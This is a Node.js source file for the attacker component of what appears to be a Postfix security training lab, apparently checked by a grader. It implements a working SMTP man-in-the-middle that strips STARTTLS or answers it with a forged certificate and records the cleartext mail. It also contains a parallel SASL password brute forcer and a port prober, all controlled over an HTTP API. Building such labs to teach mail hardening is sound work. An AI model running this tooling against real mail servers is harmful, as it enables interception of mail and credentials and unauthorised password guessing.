// Lab attacker of the postfix lab: a man in the middle on the route to the partner MX mx.orders.secure-partner.com,
// a SASL brute forcer and a port prober, driven over HTTP (:8080) and recording everything it sees under
// /var/log/attacker. Runs unprivileged; needs no npm package (node's net, tls, http only).
import { appendFileSync, mkdirSync, readFileSync, writeFileSync, existsSync } from 'node:fs'
import { createServer as createTcpServer, connect as tcpConnect } from 'node:net'
import { TLSSocket, connect as tlsConnect } from 'node:tls'
import { createServer as createHttpServer } from 'node:http'

const subnet = process.env.LAB_SUBNET
if (!subnet) throw new Error('LAB_SUBNET is required')
const LOG_DIR = process.env.ATTACKER_DIR ?? '/var/log/attacker'
const UPSTREAM = { host: process.env.ATTACKER_UPSTREAM ?? `${subnet}.40`, port: 25 }
const MAIL_HOST = process.env.ATTACKER_TARGET ?? `${subnet}.20`
const MODES = ['strip', 'forge', 'pass']
const MODE_FILE = `${LOG_DIR}/mode`
const CAPTURE_MAX = 64 * 1024
mkdirSync(`${LOG_DIR}/capture`, { recursive: true })

// The mode survives a restart of the process: a grader that set it must find it as it left it.
let mode = existsSync(MODE_FILE) ? readFileSync(MODE_FILE, 'utf8').trim() : 'strip'
if (!MODES.includes(mode)) mode = 'strip'
const forged = { key: readFileSync('/etc/attacker/forged.key'), cert: readFileSync('/etc/attacker/forged.pem') }
let seq = 0

const record = (file, obj) => appendFileSync(`${LOG_DIR}/${file}`, JSON.stringify({ time: new Date().toISOString(), ...obj }) + '\n')

/** Splits a byte stream into CRLF lines, keeping the line ends (SMTP is line-based until TLS starts). */
function lineSplitter(onLine) {
  let buf = ''
  return (chunk) => {
    buf += chunk.toString('latin1')
    let i
    while ((i = buf.indexOf('\n')) >= 0) {
      onLine(buf.slice(0, i + 1))
      buf = buf.slice(i + 1)
    }
  }
}

/** One proxied SMTP session, client (the learner's Postfix) ↔ attacker ↔ partner MX. */
function proxy(client) {
  const id = `${Date.now()}-${++seq}`
  const sessionMode = mode
  const facts = { id, mode: sessionMode, client: client.remoteAddress, upstream: `${UPSTREAM.host}:${UPSTREAM.port}`, strippedStarttls: false, clientStarttls: false, forgedTls: false, endToEndTls: false, clearBytes: 0, encryptedBytes: 0, capture: `capture/${id}.txt` }
  let capture = ''
  const cap = (dir, text) => {
    facts.clearBytes += text.length
    if (capture.length < CAPTURE_MAX) capture += text.split(/\r?\n/).filter((l, i, a) => l || i < a.length - 1).map((l) => `${dir} ${l}\n`).join('')
  }
  const upstream = tcpConnect(UPSTREAM)
  let clientSide = client // becomes the TLSSocket in forge mode
  let done = false
  const finish = () => {
    if (done) return
    done = true
    try {
      writeFileSync(`${LOG_DIR}/${facts.capture}`, capture.slice(0, CAPTURE_MAX))
      record('sessions.jsonl', facts)
    } catch (err) {
      console.error(`attacker: cannot record session ${id}: ${err.message}`)
    }
    client.destroy()
    upstream.destroy()
  }
  client.setTimeout(120_000, finish)
  for (const s of [client, upstream]) {
    s.on('error', finish)
    s.on('close', finish)
  }

  // Server → client. In strip mode the multi-line EHLO reply is held until its last line, then STARTTLS is removed.
  let held = []
  let serverTls = false // after a forwarded STARTTLS the two ends speak TLS to each other: bytes only
  const fromServer = lineSplitter((line) => {
    if (serverTls) return
    cap('S:', line)
    if (sessionMode !== 'strip') return clientSide.write(line, 'latin1')
    held.push(line)
    if (/^\d{3}-/.test(line)) return
    const code = line.slice(0, 3)
    const kept = held.filter((l) => !(code === '250' && /^250[ -]STARTTLS\s*$/i.test(l)))
    if (kept.length < held.length) facts.strippedStarttls = true
    held = []
    clientSide.write(kept.map((l, i) => l.slice(0, 3) + (i < kept.length - 1 ? '-' : ' ') + l.slice(4)).join(''), 'latin1')
  })
  upstream.on('data', (chunk) => {
    if (serverTls) {
      facts.encryptedBytes += chunk.length
      return client.write(chunk)
    }
    fromServer(chunk)
  })

  // Client → server.
  let starttlsPending = false
  const fromClient = lineSplitter((line) => {
    if (/^STARTTLS\s*$/i.test(line)) {
      facts.clientStarttls = true
      cap('C:', line)
      if (sessionMode === 'forge') {
        // Answer it ourselves with our own certificate; the partner never hears of TLS and gets the clear text.
        client.write('220 2.0.0 Ready to start TLS\r\n')
        client.removeAllListeners('data')
        const tlsSide = new TLSSocket(client, { isServer: true, key: forged.key, cert: forged.cert })
        facts.forgedTls = true
        clientSide = tlsSide
        tlsSide.on('error', finish)
        tlsSide.on('data', (c) => fromClient(c))
        return
      }
      if (sessionMode === 'strip') return client.write('502 5.5.1 Error: command not recognized\r\n')
      starttlsPending = true
    } else {
      cap('C:', line)
    }
    upstream.write(line, 'latin1')
    if (starttlsPending) {
      // Everything after STARTTLS is the two ends' TLS: pass the bytes, read nothing.
      serverTls = true
      facts.endToEndTls = true
    }
  })
  client.on('data', (chunk) => {
    if (serverTls) {
      facts.encryptedBytes += chunk.length
      return upstream.write(chunk)
    }
    fromClient(chunk)
  })
}

/** One SASL guess: connect, EHLO, (STARTTLS), AUTH PLAIN with a wrong password. What the server did is the result. */
function guess(port, user, password) {
  return new Promise((resolve) => {
    const implicit = port === 465
    let sock = implicit ? tlsConnect({ host: MAIL_HOST, port, rejectUnauthorized: false }) : tcpConnect({ host: MAIL_HOST, port })
    const started = Date.now()
    let step = 'greeting'
    let settled = false
    const done = (result, detail = '') => {
      if (settled) return
      settled = true
      sock.destroy()
      resolve({ port, user, result, detail: detail.trim().slice(0, 200), ms: Date.now() - started })
    }
    // A server that drops the attacker never greets it (5 s); one that only slows it down (Dovecot's auth penalty
    // doubles per failure, up to 15 s) still answers, so later steps get longer.
    let timer
    const arm = (ms) => {
      clearTimeout(timer)
      timer = setTimeout(() => done(step === 'greeting' ? 'no-answer' : 'timeout', `waiting for ${step}`), ms)
    }
    arm(5000)
    const attach = (s) => {
      s.on('error', (err) => { clearTimeout(timer); done(err.code === 'ECONNREFUSED' ? 'refused' : err.code === 'ECONNRESET' ? 'reset' : 'error', err.message) })
      s.on('close', () => { clearTimeout(timer); done(step === 'greeting' ? 'closed' : 'closed-during-' + step) })
      s.on('data', lineSplitter(onLine))
    }
    const send = (s, text) => s.write(text + '\r\n')
    function onLine(line) {
      if (/^\d{3}-/.test(line)) return
      const code = line.slice(0, 3)
      arm(20_000)
      if (step === 'greeting') {
        if (code !== '220') return (clearTimeout(timer), done('greeting-' + code, line))
        step = 'ehlo'
        send(sock, 'EHLO attacker.lab.test')
      } else if (step === 'ehlo' || step === 'ehlo2') {
        if (!implicit && step === 'ehlo') {
          step = 'starttls'
          return send(sock, 'STARTTLS')
        }
        step = 'auth'
        send(sock, 'AUTH PLAIN ' + Buffer.from(`\0${user}\0${password}`).toString('base64'))
      } else if (step === 'starttls') {
        if (code !== '220') return (clearTimeout(timer), done('no-starttls', line))
        sock.removeAllListeners('data')
        sock.removeAllListeners('close')
        sock.removeAllListeners('error')
        sock = tlsConnect({ socket: sock, rejectUnauthorized: false })
        attach(sock)
        sock.once('secureConnect', () => { step = 'ehlo2'; send(sock, 'EHLO attacker.lab.test') })
      } else if (step === 'auth') {
        clearTimeout(timer)
        send(sock, 'QUIT')
        done(code === '235' ? 'accepted' : `auth-${code}`, line)
      }
    }
    attach(sock)
  })
}

/** `count` wrong guesses, one connection each: in turn, or all at once (as brute forcers do, and Dovecot's per-address
 * penalty, which grows with each failure, then delays them all by the same few seconds only). */
async function brute(port, count, user, parallel) {
  const one = async (i) => {
    const r = await guess(port, user, `wrong-${i}-${Math.random().toString(36).slice(2, 8)}`)
    record('brute.jsonl', { attempt: i, ...r })
    return r
  }
  if (parallel) return Promise.all(Array.from({ length: count }, (_, i) => one(i + 1)))
  const results = []
  for (let i = 1; i <= count; i++) results.push(await one(i))
  return results
}

function probe(port) {
  return new Promise((resolve) => {
    const started = Date.now()
    const s = tcpConnect({ host: MAIL_HOST, port })
    const done = (result) => { s.destroy(); resolve({ port, result, ms: Date.now() - started }) }
    s.setTimeout(3000, () => done('filtered'))
    s.on('connect', () => done('open'))
    s.on('error', (err) => done(err.code === 'ECONNREFUSED' ? 'closed' : err.code === 'EHOSTUNREACH' ? 'unreachable' : 'error'))
  })
}

const smtp = createTcpServer(proxy)
smtp.on('error', (err) => { console.error(`attacker smtp: ${err.message}`); process.exit(1) })
smtp.listen(25, '0.0.0.0')

const json = (res, code, body) => { res.writeHead(code, { 'content-type': 'application/json' }); res.end(JSON.stringify(body, null, 1) + '\n') }
createHttpServer(async (req, res) => {
  const url = new URL(req.url ?? '/', 'http://attacker')
  const int = (name, dflt, min, max) => { const n = Number(url.searchParams.get(name) ?? dflt); return Number.isInteger(n) && n >= min && n <= max ? n : null }
  try {
    if (url.pathname === '/status' && req.method === 'GET') return json(res, 200, { mode, modes: MODES, upstream: `${UPSTREAM.host}:${UPSTREAM.port}`, target: MAIL_HOST })
    if (url.pathname === '/captures' && req.method === 'GET') {
      // The last N proxied sessions with what the attacker read in clear: what a learner looks at after an attack.
      const n = int('last', 3, 1, 20) ?? 3
      const file = `${LOG_DIR}/sessions.jsonl`
      const sessions = existsSync(file) ? readFileSync(file, 'utf8').trim().split('\n').filter(Boolean).slice(-n).map((l) => JSON.parse(l)) : []
      res.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' })
      return res.end(sessions.map((s) => `== ${s.time} session ${s.id} from ${s.client}, mode ${s.mode}, STARTTLS stripped: ${s.strippedStarttls}, end-to-end TLS: ${s.endToEndTls}, forged TLS: ${s.forgedTls}\n` +
        readFileSync(`${LOG_DIR}/${s.capture}`, 'utf8')).join('\n') || 'no session yet\n')
    }
    const m = /^\/mode\/([a-z]+)$/.exec(url.pathname)
    if (m && req.method === 'POST') {
      if (!MODES.includes(m[1])) return json(res, 400, { error: `unknown mode ${m[1]} (${MODES.join(', ')})` })
      mode = m[1]
      writeFileSync(MODE_FILE, mode + '\n')
      record('control.jsonl', { event: 'mode', mode })
      return json(res, 200, { mode })
    }
    if (url.pathname === '/brute' && req.method === 'POST') {
      const port = int('port', 587, 1, 65535)
      const count = int('count', 10, 1, 30)
      const user = (url.searchParams.get('user') ?? 'alice@domaine.tld').slice(0, 64)
      if (port === null || count === null) return json(res, 400, { error: 'port 1-65535, count 1-30' })
      return json(res, 200, { port, user, results: await brute(port, count, user, url.searchParams.get('parallel') === '1') })
    }
    if (url.pathname === '/probe' && req.method === 'POST') {
      const ports = (url.searchParams.get('ports') ?? '22,25,80,110,143,443,465,587,993,995').split(',').map(Number).filter((p) => Number.isInteger(p) && p > 0 && p < 65536).slice(0, 32)
      const results = await Promise.all(ports.map(probe))
      record('probe.jsonl', { results })
      return json(res, 200, { target: MAIL_HOST, results })
    }
    json(res, 404, { error: 'GET /status, /captures?last=3; POST /mode/strip|forge|pass, /brute?port=587&count=10&parallel=1&user=…, /probe?ports=25,587' })
  } catch (err) {
    json(res, 500, { error: String(err?.message ?? err) })
  }
}).listen(8080, '0.0.0.0')
console.error(`attacker: mode ${mode}, relaying :25 to ${UPSTREAM.host}:25, control on :8080`)
